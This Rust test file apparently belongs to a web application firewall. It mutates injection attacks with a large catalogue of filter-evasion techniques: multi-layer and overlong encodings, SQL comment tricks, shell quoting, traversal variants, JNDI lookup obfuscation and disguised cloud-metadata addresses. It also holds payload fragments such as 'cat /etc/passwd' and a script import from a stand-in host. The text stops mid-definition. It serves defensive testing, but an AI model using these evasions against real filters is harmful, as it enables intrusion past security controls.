//! Known ways around a filter, tried on every attack that the injection rules must catch.
//!
//! Takes in the `catches` cases of `rules/injection`. Takes each apart into the pieces that carry its
//! payload, spells these anew in each way of [`MUTATIONS`] that leaves the attack of its class whole,
//! and asks the engine again. Prints what was still found, by family and class; `docs/EVASIONS.md`
//! describes the families.
//!
//! ```text
//! case     GET /item?id=-1+union+select+1,2,user()
//! pieces   id = `-1 union select 1,2,user()`                      class sql
//! mutated  /item?id=-1/**/union/**/select/**/1,2,user()           family sql: comments
//!          /item?id=%252d%2531%2520%2575…                         family double percent
//! ```

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test that cannot go on fails"
)]

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::io::Write as _;
use std::path::Path;

use portcullis::headers::Headers;
use portcullis::inspect::Inspector;
use portcullis::limits;
use portcullis::ruleset::RuleSet;
use portcullis_compiler::ast::{CaseEvent, CaseRequest};
use portcullis_compiler::backend;

/// The share of mutated attacks that must be found over all families, in percent.
const OVERALL_FLOOR: f64 = 97.0;

/// Fewer mutated attacks than this would mean that the mutator stopped mutating.
const CASES_FLOOR: usize = 3_000;

/// What an attack is written in, which says what may be changed of it.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Class {
    Sql,
    Markup,
    Shell,
    Path,
    Url,
    Jndi,
    Template,
    Php,
    Ldap,
    NoSql,
    Xml,
    /// Code and objects of other languages.
    Code,
    /// Base64 already.
    Base64,
}
use Class::*;

impl Class {
    const ALL: [Class; 13] = [
        Sql, Markup, Shell, Path, Url, Jndi, Template, Php, Ldap, NoSql, Xml, Code, Base64,
    ];

    fn of(file: &str, payload: &[u8]) -> Class {
        match file {
            "sql-in-path" | "sql-in-query" | "sql-in-referer" | "sql-variable" => Sql,
            "xss-in-path" | "xss-in-query" | "xss-in-referer" => Markup,
            "command-in-path" | "command-in-query" | "command-in-referer" => Shell,
            "path-traversal" | "path-traversal-in-referer" => Path,
            "ssrf-in-path" | "ssrf-in-query" | "ssrf-in-referer" => Url,
            "jndi-lookup" => Jndi,
            "template-expression" => Template,
            "php-code" | "php-object" => Php,
            "ldap-filter" => Ldap,
            "nosql-operator" => NoSql,
            "xml-entity" | "xpath-expression" | "server-side-include" => Xml,
            "user-agent-code" | "user-agent-payload" => {
                let has = |word: &str| {
                    payload
                        .windows(word.len())
                        .any(|window| window == word.as_bytes())
                };
                match () {
                    () if has("ndi:") => Jndi,
                    () if has("<script") => Markup,
                    () if has("sleep(") => Sql,
                    () if has("/bin/") => Shell,
                    () if has("php") => Php,
                    () if has("{{") => Template,
                    () => Code,
                }
            }
            name if name.starts_with("base64-") => Base64,
            "asp-code"
            | "spreadsheet-formula"
            | "java-code"
            | "node-code"
            | "option-injection"
            | "python-ruby-code"
            | "prototype-pollution"
            | "serialised-object"
            | "yaml-object" => Code,
            other => panic!("rules/injection/{other}.yml: say in `Class::of` what it catches"),
        }
    }
}

/// Where an attack's payload sits.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Place {
    Query,
    Path,
    Referer,
    UserAgent,
}

/// One parameter, or the whole text of a place that has none; decoded.
#[derive(Clone, Debug)]
struct Piece {
    name: Option<Vec<u8>>,
    value: Vec<u8>,
}

/// An attack, taken apart.
#[derive(Clone, Debug)]
struct Attack {
    title: String,
    class: Class,
    place: Place,
    /// What stands before the pieces, as on the wire.
    before: Vec<u8>,
    pieces: Vec<Piece>,
}

/// How bytes are spelled in a URL.
type Spelling = fn(usize, u8, &mut Vec<u8>);

impl Attack {
    fn of(file: &str, title: &str, request: &CaseRequest) -> Attack {
        let header = |name: &[u8]| {
            let mut headers = request.headers.iter();
            headers.find(|(n, _)| n == name).map(|(_, value)| value)
        };
        let whole = |bytes: &[u8]| Piece {
            name: None,
            value: bytes.to_vec(),
        };
        let (place, before, pieces) = if let Some(agent) = header(b"user-agent") {
            (Place::UserAgent, Vec::new(), vec![whole(agent)])
        } else if let Some(referer) = header(b"referer") {
            match split_at(referer, b'?') {
                (stem, Some(query)) => (Place::Referer, [stem, b"?"].concat(), query_pieces(query)),
                (value, None) => (Place::Referer, Vec::new(), vec![whole(&decoded(value))]),
            }
        } else {
            match split_at(&request.target, b'?') {
                (stem, Some(query)) => (Place::Query, [stem, b"?"].concat(), query_pieces(query)),
                (stem, None) => (
                    Place::Path,
                    b"/".to_vec(),
                    vec![whole(&decoded(stem.strip_prefix(b"/").unwrap_or(stem)))],
                ),
            }
        };
        let all: Vec<u8> = pieces
            .iter()
            .flat_map(|piece| piece.value.clone())
            .collect();
        Attack {
            title: title.to_owned(),
            class: Class::of(file, &all),
            place,
            before,
            pieces,
        }
    }

    /// The text on the wire of the place that the payload sits in.
    fn text(&self, spelling: Spelling) -> Vec<u8> {
        let mut out = self.before.clone();
        let spell = |bytes: &[u8], out: &mut Vec<u8>| {
            for (at, &byte) in bytes.iter().enumerate() {
                if self.place == Place::UserAgent {
                    out.push(byte);
                } else if self.place == Place::Path && byte == b'?' {
                    // It would begin the query.
                    all(at, byte, out);
                } else {
                    spelling(at, byte, out);
                }
            }
        };
        for (index, piece) in self.pieces.iter().enumerate() {
            if index > 0 {
                out.push(b'&');
            }
            if let Some(name) = &piece.name {
                spell(name, &mut out);
                out.push(b'=');
            }
            spell(&piece.value, &mut out);
        }
        out
    }

    /// The attack with each text of its payload rewritten; nothing if `rewrite` changes none.
    fn rewritten(&self, rewrite: impl Fn(&[u8]) -> Option<Vec<u8>>) -> Option<Attack> {
        let mut attack = self.clone();
        let mut changed = false;
        for piece in &mut attack.pieces {
            for text in piece.name.iter_mut().chain([&mut piece.value]) {
                if !is_plain(text)
                    && let Some(new) = rewrite(text)
                    && new != *text
                {
                    *text = new;
                    changed = true;
                }
            }
        }
        changed.then_some(attack)
    }

    /// The attack with each value of its payload in other clothes; only where values are decoded apart.
    fn revalued(&self, rewrite: impl Fn(&[u8]) -> Vec<u8>) -> Option<Attack> {
        let in_a_query = self.pieces.iter().any(|piece| piece.name.is_some());
        let mut attack = self.clone();
        let mut changed = false;
        for piece in &mut attack.pieces {
            // A payload that is a name, or spread over several, does not survive as a value.
            if piece.name.as_deref().is_none_or(|name| !is_name(name)) {
                return None;
            }
            if !is_plain(&piece.value) {
                piece.value = rewrite(&piece.value);
                changed = true;
            }
        }
        let one_value = self
            .pieces
            .iter()
            .filter(|piece| !is_plain(&piece.value))
            .count()
            == 1;
        (in_a_query && changed && one_value && self.place != Place::Path).then_some(attack)
    }
}

fn split_at(text: &[u8], separator: u8) -> (&[u8], Option<&[u8]>) {
    match text.iter().position(|&byte| byte == separator) {
        Some(at) => (&text[..at], Some(&text[at + 1..])),
        None => (text, None),
    }
}

fn query_pieces(query: &[u8]) -> Vec<Piece> {
    query
        .split(|&byte| byte == b'&')
        .map(|pair| {
            let spaced: Vec<u8> = pair
                .iter()
                .map(|&byte| if byte == b'+' { b' ' } else { byte })
                .collect();
            match split_at(&spaced, b'=') {
                (name, Some(value)) => Piece {
                    name: Some(decoded(name)),
                    value: decoded(value),
                },
                (value, None) => Piece {
                    name: None,
                    value: decoded(value),
                },
            }
        })
        .collect()
}

/// Percent-decoding, once and by itself: the engine's own would be no witness.
fn decoded(text: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut at = 0;
    while at < text.len() {
        let byte = text.get(at + 1..at + 3).and_then(|digits| {
            let digits = std::str::from_utf8(digits).ok()?;
            u8::from_str_radix(digits, 16).ok()
        });
        match byte {
            Some(byte) if text[at] == b'%' => {
                out.push(byte);
                at += 3;
            }
            _ => {
                out.push(text[at]);
                at += 1;
            }
        }
    }
    out
}

fn is_plain(text: &[u8]) -> bool {
    text.iter()
        .all(|byte| byte.is_ascii_alphanumeric() || b"_-.".contains(byte))
}

/// Whether a parameter's name is only a name and not the payload, as those of Struts are and those
/// that reach for a prototype.
fn is_name(name: &[u8]) -> bool {
    let payloads: [&[u8]; 3] = [b"class.", b"constructor.", b"__proto__"];
    is_plain(name) && !payloads.iter().any(|payload| name.starts_with(payload))
}

// Spellings.

fn hex(prefix: &str, byte: u8, out: &mut Vec<u8>) {
    out.extend(format!("{prefix}{byte:02X}").bytes());
}

/// What cannot stand in a URL as it is, and nothing else.
fn least(_: usize, byte: u8, out: &mut Vec<u8>) {
    match byte {
        b'!' | b'$' | b'\''..=b'*' | b','..=b';' | b'=' | b'?'..=b'~' => out.push(byte),
        _ => hex("%", byte, out),
    }
}

fn all(_: usize, byte: u8, out: &mut Vec<u8>) {
    hex("%", byte, out);
}

/// Every other byte, with digits of either case.
fn mixed(at: usize, byte: u8, out: &mut Vec<u8>) {
    match at % 3 {
        0 if !b" &+%#\"<>".contains(&byte) && byte.is_ascii_graphic() => out.push(byte),
        1 => out.extend(format!("%{byte:02x}").bytes()),
        _ => hex("%", byte, out),
    }
}

fn double(_: usize, byte: u8, out: &mut Vec<u8>) {
    hex("%25", byte, out);
}

fn triple(_: usize, byte: u8, out: &mut Vec<u8>) {
    hex("%2525", byte, out);
}

/// Only what is not a letter or digit, twice: what a proxy does that encodes again.
fn double_marks(at: usize, byte: u8, out: &mut Vec<u8>) {
    if byte.is_ascii_alphanumeric() {
        out.push(byte);
    } else {
        double(at, byte, out);
    }
}

/// The digits of an escape are escapes.
fn escaped_digits(_: usize, byte: u8, out: &mut Vec<u8>) {
    out.push(b'%');
    for digit in format!("{byte:02x}").bytes() {
        out.extend(format!("%{digit:02x}").bytes());
    }
}

fn percent_u(at: usize, byte: u8, out: &mut Vec<u8>) {
    if byte < 0x80 {
        hex("%u00", byte, out);
    } else {
        all(at, byte, out);
    }
}

fn overlong_two(at: usize, byte: u8, out: &mut Vec<u8>) {
    if byte.is_ascii_alphanumeric() || byte >= 0x80 {
        return least(at, byte, out);
    }
    hex("%", 0xc0 | byte >> 6, out);
    hex("%", 0x80 | byte & 0x3f, out);
}

fn overlong_three(at: usize, byte: u8, out: &mut Vec<u8>) {
    if byte.is_ascii_alphanumeric() || byte >= 0x80 {
        return least(at, byte, out);
    }
    hex("%", 0xe0, out);
    hex("%", 0x80 | byte >> 6, out);
    hex("%", 0x80 | byte & 0x3f, out);
}

fn wide(at: usize, byte: u8, out: &mut Vec<u8>) {
    if byte.is_ascii_alphanumeric() || !byte.is_ascii_graphic() {
        return least(at, byte, out);
    }
    let wide = char::from_u32(u32::from(byte) + 0xfee0).unwrap();
    for byte in wide.encode_utf8(&mut [0; 4]).bytes() {
        hex("%", byte, out);
    }
}

fn wide_u(at: usize, byte: u8, out: &mut Vec<u8>) {
    if byte.is_ascii_graphic() {
        out.extend(format!("%u{:04x}", u32::from(byte) + 0xfee0).bytes());
    } else {
        least(at, byte, out);
    }
}

fn plus(at: usize, byte: u8, out: &mut Vec<u8>) {
    if byte == b' ' {
        out.push(b'+');
    } else {
        least(at, byte, out);
    }
}

fn no_semicolon(at: usize, byte: u8, out: &mut Vec<u8>) {
    match byte {
        b';' => all(at, byte, out),
        _ => least(at, byte, out),
    }
}

fn utf16(at: usize, byte: u8, out: &mut Vec<u8>) {
    least(at, byte, out);
    out.extend(b"%00");
}

// Rewriting texts.

fn replaced(text: &[u8], from: &str, to: &str) -> Option<Vec<u8>> {
    let text = String::from_utf8(text.to_vec()).ok()?;
    text.contains(from)
        .then(|| text.replace(from, to).into_bytes())
}

fn replaced_once(text: &[u8], from: &str, to: &str) -> Option<Vec<u8>> {
    let text = String::from_utf8(text.to_vec()).ok()?;
    text.contains(from)
        .then(|| text.replacen(from, to, 1).into_bytes())
}

/// Each of these words that is there, rewritten; nothing if none is.
fn words(text: &[u8], list: &[&str], rewrite: impl Fn(&str) -> String) -> Option<Vec<u8>> {
    let mut text = String::from_utf8(text.to_vec()).ok()?;
    let mut changed = false;
    for word in list {
        let mut from = 0;
        while let Some(found) = text.get(from..).and_then(|rest| rest.find(word)) {
            let (start, end) = (from + found, from + found + word.len());
            let letter = |byte: Option<&u8>| byte.is_some_and(u8::is_ascii_alphanumeric);
            let bytes = text.as_bytes();
            if letter(bytes.get(end)) || start > 0 && letter(bytes.get(start - 1)) {
                from = end;
                continue;
            }
            let new = rewrite(word);
            text.replace_range(start..end, &new);
            from = start + new.len();
            changed = true;
        }
    }
    changed.then(|| text.into_bytes())
}

fn alternating(word: &str) -> String {
    word.chars()
        .enumerate()
        .map(|(at, char)| match at % 2 {
            0 => char.to_ascii_lowercase(),
            _ => char.to_ascii_uppercase(),
        })
        .collect()
}

const SQL_WORDS: [&str; 6] = ["union", "select", "or", "and", "sleep", "waitfor"];
const HTML_WORDS: [&str; 8] = [
    "script",
    "svg",
    "img",
    "src",
    "onload",
    "onerror",
    "onmouseover",
    "javascript",
];
const COMMANDS: [&str; 4] = ["id", "cat", "whoami", "wget"];
const PHP_FUNCTIONS: [&str; 7] = [
    "system",
    "phpinfo",
    "eval",
    "base64_decode",
    "assert",
    "call_user_func_array",
    "php",
];

fn recased(class: Class, text: &[u8]) -> Option<Vec<u8>> {
    match class {
        Sql => words(text, &SQL_WORDS, alternating),
        Markup => words(text, &HTML_WORDS, alternating),
        Php => words(text, &PHP_FUNCTIONS, alternating),
        Jndi => words(text, &["jndi", "ldap", "rmi", "dns", "lower"], alternating),
        Url => words(text, &["http", "gopher"], alternating),
        // File names of Windows, and the names of PHP's wrappers.
        Path => words(
            text,
            &["windows", "win", "ini", "php", "filter"],
            alternating,
        ),
        Ldap => words(text, &["uid", "userPassword", "objectclass"], alternating),
        _ => None,
    }
}

fn entities(text: &[u8], spell: impl Fn(u8) -> String) -> Option<Vec<u8>> {
    text.is_ascii().then(|| {
        text.iter()
            .flat_map(|&byte| spell(byte).into_bytes())
            .collect()
    })
}

fn named_entity(byte: u8) -> String {
    let name = match byte {
        b'<' => "lt",
        b'>' => "gt",
        b'"' => "quot",
        b'\'' => "apos",
        b'(' => "lpar",
        b')' => "rpar",
        b':' => "colon",
        b'=' => "equals",
        b'/' => "sol",
        _ => return char::from(byte).to_string(),
    };
    format!("&{name};")
}

fn marks(text: &[u8], spell: impl Fn(u8) -> String) -> Option<Vec<u8>> {
    entities(text, |byte| {
        if byte.is_ascii_alphanumeric() || byte == b' ' {
            char::from(byte).to_string()
        } else {
            spell(byte)
        }
    })
}

fn json_string(text: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for &byte in text {
        match byte {
            b'"' | b'\\' => out.extend([b'\\', byte]),
            b'\n' => out.extend(b"\\n"),
            0..=0x1f => out.extend(format!("\\u{byte:04x}").bytes()),
            _ => out.push(byte),
        }
    }
    out
}

fn base64(text: &[u8], alphabet_end: &[u8; 2], padding: bool) -> Vec<u8> {
    let digit = |value: u32| match value as u8 & 63 {
        value @ 0..=25 => b'A' + value,
        value @ 26..=51 => b'a' + value - 26,
        value @ 52..=61 => b'0' + value - 52,
        value => alphabet_end[usize::from(value - 62)],
    };
    let mut out = Vec::new();
    for chunk in text.chunks(3) {
        let byte = |at: usize| u32::from(chunk.get(at).copied().unwrap_or(0));
        let word = byte(0) << 16 | byte(1) << 8 | byte(2);
        let digits = [word >> 18, word >> 12, word >> 6, word].map(digit);
        out.extend(&digits[..=chunk.len()]);
        if padding {
            out.extend(&b"=="[..3 - chunk.len()]);
        }
    }
    out
}

fn standard_base64(text: &[u8]) -> Vec<u8> {
    base64(text, b"+/", true)
}

// The families.

/// How an attack is changed.
enum Change {
    /// The bytes of a URL are spelled so.
    Spell(Spelling),
    /// The texts of the payload are rewritten, in the classes that bear it.
    Rewrite(fn(Class, &[u8]) -> Option<Vec<u8>>),
    /// Pieces are added, taken apart, wrapped.
    Rearrange(fn(&Attack) -> Option<Attack>),
}
use Change::*;

/// Family, member and change.
#[rustfmt::skip]
const MUTATIONS: &[(&str, &str, Change)] = &[
    ("percent", "all bytes", Spell(all)),
    ("percent", "some bytes, digits of either case", Spell(mixed)),
    ("percent", "+ for spaces", Spell(plus)),
    ("percent, repeated", "twice", Spell(double)),
    ("percent, repeated", "marks twice", Spell(double_marks)),
    ("percent, repeated", "three times", Spell(triple)),
    ("percent, repeated", "digits escaped", Spell(escaped_digits)),
    ("%u", "%u00XX", Spell(percent_u)),
    ("overlong UTF-8", "two bytes", Spell(overlong_two)),
    ("overlong UTF-8", "three bytes", Spell(overlong_three)),
    ("full width", "UTF-8", Spell(wide)),
    ("full width", "%uffXX", Spell(wide_u)),
    ("letter case", "alternating", Rewrite(recased)),
    ("white space", "tab", Rewrite(|class, text| blanks(class, text, "\t"))),
    ("white space", "line feed", Rewrite(|class, text| blanks(class, text, "\n"))),
    ("white space", "CR LF", Rewrite(|class, text| blanks(class, text, "\r\n"))),
    ("white space", "vertical tab", Rewrite(|class, text| (class == Sql).then(|| blanks(class, text, "\x0b"))?)),
    ("white space", "form feed", Rewrite(|class, text| (class == Sql || class == Markup).then(|| blanks(class, text, "\x0c"))?)),
    ("white space", "two spaces", Rewrite(|class, text| blanks(class, text, "  "))),
    ("white space", "%a0", Rewrite(|class, text| {
        let latin = |byte: &u8| if *byte == b' ' { 0xa0 } else { *byte };
        (class == Sql).then(|| text.iter().map(latin).collect())
    })),
    ("SQL comments", "/**/", Rewrite(|class, text| (class == Sql).then(|| replaced(text, " ", "/**/"))?)),
    ("SQL comments", "/*text*/", Rewrite(|class, text| (class == Sql).then(|| replaced(text, " ", "/*a b*/"))?)),
    ("SQL comments", "-- to the end of the line", Rewrite(|class, text| (class == Sql).then(|| replaced(text, " ", "--x\n"))?)),
    ("SQL comments", "# to the end of the line", Rewrite(|class, text| {
        mysql(class, text).then(|| replaced(text, " ", "%23x\n").map(|text| decoded(&text)))?
    })),
    ("SQL comments", "/*!50000word*/", Rewrite(|class, text| {
        mysql(class, text).then(|| words(text, &["union", "select", "or", "and", "sleep"], |word| format!("/*!50000{word}*/")))?
    })),
    ("SQL comments", "/*!word*/", Rewrite(|class, text| {
        mysql(class, text).then(|| words(text, &["union", "select", "or", "and"], |word| format!("/*!{word}*/")))?
    })),
    ("SQL equivalents", "|| for or", Rewrite(|class, text| (class == Sql).then(|| replaced(text, " or ", "||"))?)),
    ("SQL equivalents", "xor for or", Rewrite(|class, text| mysql(class, text).then(|| replaced(text, " or ", " xor "))?)),
    ("SQL equivalents", "like for =", Rewrite(|class, text| (class == Sql).then(|| replaced(text, "=", " like "))?)),
    ("SQL equivalents", "exponent for a space", Rewrite(|class, text| mysql(class, text).then(|| replaced(text, "-1 union", "1e0union"))?)),
    ("SQL equivalents", "union all", Rewrite(|class, text| (class == Sql).then(|| replaced(text, "union select", "union all select"))?)),
    ("SQL equivalents", "union distinct", Rewrite(|class, text| (class == Sql).then(|| replaced(text, "union select", "union distinct select"))?)),
    ("SQL equivalents", "brackets for spaces", Rewrite(|class, text| (class == Sql).then(|| replaced(text, "union select 1,2,user()", "union(select(1),2,user())"))?)),
    ("HTML entities", "named", Rewrite(|class, text| (class == Markup).then(|| entities(text, named_entity))?)),
    ("HTML entities", "decimal", Rewrite(|class, text| (class == Markup).then(|| entities(text, |byte| format!("&#{byte};")))?)),
    ("HTML entities", "hexadecimal", Rewrite(|class, text| (class == Markup).then(|| entities(text, |byte| format!("&#x{byte:X};")))?)),
    ("HTML entities", "zeros, no semicolon", Rewrite(|class, text| (class == Markup).then(|| entities(text, |byte| format!("&#{byte:07}")))?)),
    ("HTML entities", "in a handler", Rewrite(|class, text| (class == Markup).then(|| replaced(text, "=alert", "=&#97;l&#x65;rt"))?)),
    ("HTML entities", "in a scheme", Rewrite(|class, text| (class == Markup).then(|| replaced(text, "java\nscript:", "jav&#x0A;ascript&colon;"))?)),
    ("HTML entities", "white space in a scheme", Rewrite(|class, text| (class == Markup).then(|| replaced(text, "java\nscript:", "&#1;j&Tab;ava&NewLine;script:"))?)),
    ("script escapes", "\\u00XX", Rewrite(|class, text| (class == Markup).then(|| marks(text, |byte| format!("\\u00{byte:02x}")))?)),
    ("script escapes", "\\u{X}", Rewrite(|class, text| (class == Markup).then(|| marks(text, |byte| format!("\\u{{{byte:x}}}")))?)),
    ("script escapes", "\\xXX", Rewrite(|class, text| (class == Markup).then(|| marks(text, |byte| format!("\\x{byte:02x}")))?)),
    ("script escapes", "octal", Rewrite(|class, text| (class == Markup).then(|| marks(text, |byte| format!("\\{byte:o}")))?)),
    ("script escapes", "in a name", Rewrite(|class, text| (class == Markup).then(|| replaced(text, "alert", "\\u0061lert"))?)),
    ("script equivalents", "tagged template", Rewrite(|class, text| (class == Markup).then(|| replaced(text, "alert(1)", "alert`1`"))?)),
    ("script equivalents", "brackets", Rewrite(|class, text| (class == Markup).then(|| replaced(text, "alert(1)", "(alert)(1)"))?)),
    ("script equivalents", "by its name", Rewrite(|class, text| (class == Markup).then(|| replaced(text, "alert(1)", "top['al'+'ert'](1)"))?)),
    ("script equivalents", "eval", Rewrite(|class, text| (class == Markup).then(|| replaced(text, "alert(1)", "eval(atob('YWxlcnQoMSk='))"))?)),
    ("script equivalents", "import", Rewrite(|class, text| (class == Markup).then(|| replaced(text, "alert(1)", "import('//a.example/x')"))?)),
    ("script equivalents", "slash for a space", Rewrite(|class, text| (class == Markup).then(|| replaced_once(text, " ", "/"))?)),
    ("shell white space", "${IFS}", Rewrite(|class, text| shell_blanks(class, text, "${IFS}"))),
    ("shell white space", "$IFS$9", Rewrite(|class, text| shell_blanks(class, text, "$IFS$9"))),
    ("shell white space", "<", Rewrite(|class, text| (class == Shell).then(|| replaced(text, "cat ", "cat<"))?)),
    ("shell white space", "{a,b}", Rewrite(|class, text| (class == Shell).then(|| replaced(text, "cat /etc/passwd", "{cat,/etc/passwd}"))?)),
    ("shell quoting", "c''at", Rewrite(|class, text| shell_words(class, text, |a, b| format!("{a}''{b}")))),
    ("shell quoting", "c\"a\"t", Rewrite(|class, text| shell_words(class, text, |a, b| format!("{a}\"{b}\"")))),
    ("shell quoting", "c\\at", Rewrite(|class, text| shell_words(class, text, |a, b| format!("{a}\\{b}")))),
    ("shell quoting", "c$@at", Rewrite(|class, text| shell_words(class, text, |a, b| format!("{a}$@{b}")))),
    ("shell quoting", "wild cards", Rewrite(|class, text| (class == Shell).then(|| replaced(text, "/etc/passwd", "/e?c/p?ss*d"))?)),
    ("shell quoting", "a path", Rewrite(|class, text| {
        (class == Shell && !text.starts_with(b"()")).then(|| words(text, &["id", "cat", "whoami", "wget"], |word| format!("/usr/bin/{word}")))?
    })),
    ("shell separators", "line feed", Rewrite(|class, text| shell_separators(class, text, "\n"))),
    ("shell separators", "&&", Rewrite(|class, text| shell_separators(class, text, "&&"))),
    ("shell separators", "||", Rewrite(|class, text| shell_separators(class, text, "||"))),
    ("shell separators", "&", Rewrite(|class, text| shell_separators(class, text, "&"))),
    ("shell separators", "|", Rewrite(|class, text| shell_separators(class, text, "|"))),
    ("paths", "//", Rewrite(|class, text| steps(class, text, "..//"))),
    ("paths", "/./", Rewrite(|class, text| steps(class, text, ".././"))),
    ("paths", "backslashes", Rewrite(|class, text| steps(class, text, "..\\"))),
    ("paths", "both slashes", Rewrite(|class, text| steps(class, text, "..\\/"))),
    ("paths", "..;/", Rewrite(|class, text| steps(class, text, "..;/"))),
    ("paths", "..;x=1/", Rewrite(|class, text| steps(class, text, "..;x=1/"))),
    ("paths", "....//", Rewrite(|class, text| steps(class, text, "....//"))),
    ("paths", "..././", Rewrite(|class, text| steps(class, text, "..././"))),
    ("paths", "./ in the name", Rewrite(|class, text| (class == Path).then(|| replaced(text, "/etc/", "/etc/./"))?)),
    ("paths", "a detour in the name", Rewrite(|class, text| (class == Path).then(|| replaced(text, "/etc/", "/etc/x/../"))?)),
    ("paths", "a folder before", Rewrite(|class, text| (class == Path && text.starts_with(b"..")).then(|| [b"images/", text].concat()))),
    ("NULs", "at the end", Rewrite(|class, text| matches!(class, Sql | Markup | Path).then(|| [text, b"\0"].concat()))),
    ("NULs", "and an extension", Rewrite(|class, text| (class == Path).then(|| [text, b"\0.jpg"].concat()))),
    ("NULs", "at the start", Rewrite(|class, text| matches!(class, Sql | Markup).then(|| [b"\0", text].concat()))),
    ("NULs", "in a word", Rewrite(|class, text| (class == Markup).then(|| words(text, &["script", "img", "svg"], |word| format!("{}\0{}", &word[..2], &word[2..])))?)),
    ("charsets", "UTF-16", Rearrange(|attack| (attack.class == Markup && attack.place != Place::UserAgent).then(|| attack.clone()))),
    ("charsets", "UTF-7", Rewrite(|class, text| (class == Markup).then(|| replaced(text, "<", "+ADw-").and_then(|text| replaced(&text, ">", "+AD4-")))?)),
    ("charsets", "quotes that are fitted", Rewrite(|class, text| (class == Sql).then(|| replaced(text, "'", "\u{2b9}"))?)),
    ("hosts", "decimal", Rewrite(|class, text| (class == Url).then(|| replaced(text, "169.254.169.254", "2852039166"))?)),
    ("hosts", "hexadecimal", Rewrite(|class, text| (class == Url).then(|| replaced(text, "169.254.169.254", "0xa9fea9fe"))?)),
    ("hosts", "octal", Rewrite(|class, text| (class == Url).then(|| replaced(text, "169.254.169.254", "0251.0376.0251.0376"))?)),
    ("hosts", "IPv6", Rewrite(|class, text| (class == Url).then(|| replaced(text, "169.254.169.254", "[::ffff:169.254.169.254]"))?)),
    ("hosts", "a user before", Rewrite(|class, text| (class == Url).then(|| replaced(text, "://", "://a.example@"))?)),
    ("hosts", "a dot behind", Rewrite(|class, text| (class == Url).then(|| replaced(text, "169.254.169.254", "169.254.169.254."))?)),
    ("hosts", "without a scheme", Rewrite(|class, text| (class == Url).then(|| replaced(text, "http://169", "//169"))?)),
    ("hosts", "backslashes", Rewrite(|class, text| (class == Url).then(|| replaced(text, "http://", "http:\\\\"))?)),
    ("lookups", "lower", Rewrite(|class, text| (class == Jndi).then(|| replaced(text, "{jndi:", "{${lower:j}ndi:"))?)),
    ("lookups", "default", Rewrite(|class, text| (class == Jndi).then(|| replaced(text, "{jndi:", "{${::-j}n${::-d}i:"))?)),
    ("lookups", "environment", Rewrite(|class, text| (class == Jndi).then(|| replaced(text, "{jndi:", "{j${env:X:-n}di${k8s:Y:-:}"))?)),
    ("lookups", "in the scheme", Rewrite(|class, text| (class == Jndi).then(|| replaced(text, "{jndi:", "{jndi:${lower:l}${lower:d}a${lower:p}://x/").filter(|_| text.windows(5).any(|w| w == b"ldap:")))?)),
    ("lookups", "upper", Rewrite(|class, text| (class == Jndi).then(|| replaced(text, "{jndi:", "{jnd${upper:\u{131}}:"))?)),
    ("templates", "spaces inside", Rewrite(|class, text| (class == Template).then(|| replaced(text, "{{", "{{ ").and_then(|text| replaced(&text, "}}", " }}")))?)),
    ("templates", "trimming", Rewrite(|class, text| (class == Template).then(|| replaced(text, "{{", "{{-").and_then(|text| replaced(&text, "}}", "-}}")))?)),
    ("PHP", "space before the bracket", Rewrite(|class, text| (class == Php).then(|| replaced(text, "system(", "system ("))?)),
    ("PHP", "comment before the bracket", Rewrite(|class, text| (class == Php).then(|| replaced(text, "system(", "system/**/("))?)),
    ("PHP", "root name space", Rewrite(|class, text| (class == Php).then(|| replaced(text, "system(", "\\system("))?)),
    ("PHP", "quoted name", Rewrite(|class, text| (class == Php).then(|| replaced(text, "system(", "'system'("))?)),
    ("JSON", "a string", Rearrange(|attack| in_json(attack, json_string, b"{\"a\":\"", b"\"}"))),
    ("JSON", "deep", Rearrange(|attack| in_json(attack, json_string, b"{\"a\":{\"b\":[1,\"x\",\"", b"\"]},\"c\":null}"))),
    ("JSON", "escaped marks", Rearrange(|attack| in_json(attack, |text| marks(text, |byte| format!("\\u00{byte:02X}")).unwrap_or_default(), b"{\"a\":\"", b"\"}"))),
    ("Base64", "padded", Rearrange(|attack| in_base64(attack, standard_base64))),
    ("Base64", "not padded", Rearrange(|attack| in_base64(attack, |text| base64(text, b"+/", false)))),
    ("Base64", "of URLs", Rearrange(|attack| in_base64(attack, |text| base64(text, b"-_", false)))),
    ("Base64, repeated", "twice", Rearrange(|attack| in_base64(attack, |text| standard_base64(&standard_base64(text))))),
    ("parameters", "repeated, the last one counts", Rearrange(|attack| beside(attack, |pieces| {
        let name = pieces.first()?.name.clone()?;
        pieces.insert(0, Piece { name: Some(name), value: b"1".to_vec() });
        Some(())
    }))),
    ("parameters", "repeated, the first one counts", Rearrange(|attack| beside(attack, |pieces| {
        let name = pieces.first()?.name.clone()?;
        pieces.push(Piece { name: Some(name), value: b"1".to_vec() });
        Some(())
    }))),
    ("parameters", "an array", Rearrange(|attack| beside(attack, |pieces| {
        for piece in pieces {
            piece.name.as_mut()?.extend(b"[]");
        }
        Some(())
    }))),
    ("parameters", "separated by ;", Rearrange(|attack| (attack.place == Place::Query).then(|| Attack {
        before: [&attack.before[..], b"a=1;"].concat(),
        ..attack.clone()
    }))),
    ("parameters", "behind 900 others", Rearrange(|attack| beside(attack, |pieces| {
        let other = |at: usize| Piece { name: Some(format!("p{at}").into_bytes()), value: b"1".to_vec() };
        pieces.splice(0..0, (0..900).map(other));
        Some(())
    }))),
    ("parameters", "split by comments", Rearrange(|attack| {
        (attack.class == Sql).then_some(())?;
        beside(attack, |pieces| {
            let [piece] = &pieces[..] else { return None };
            let (name, value) = (piece.name.clone()?, String::from_utf8(piece.value.clone()).ok()?);
            value.contains(' ').then_some(())?;
            let parts: Vec<&str> = value.split(' ').collect();
            let last = parts.len() - 1;
            *pieces = parts.iter().enumerate().map(|(at, part)| Piece {
                name: Some(name.clone()),
                value: format!("{}{part}{}", if at > 0 { "*/" } else { "" }, if at < last { "/*" } else { "" }).into_bytes(),
            }).collect();
            Some(())
        })
    })),
    ("padding", "8 KiB in another parameter", Rearrange(|attack| beside(attack, |pieces| {
        pieces.insert(0, Piece { name: Some(b"pad".to_vec()), value: vec![b'a'; 8192] });
        Some(())
    }))),
    ("padding", "8 KiB in the same value", Rewrite(|class, text| {
        (matches!(class, Markup | Template | Jndi) || class == Shell && b";|`$".contains(text.first()?))
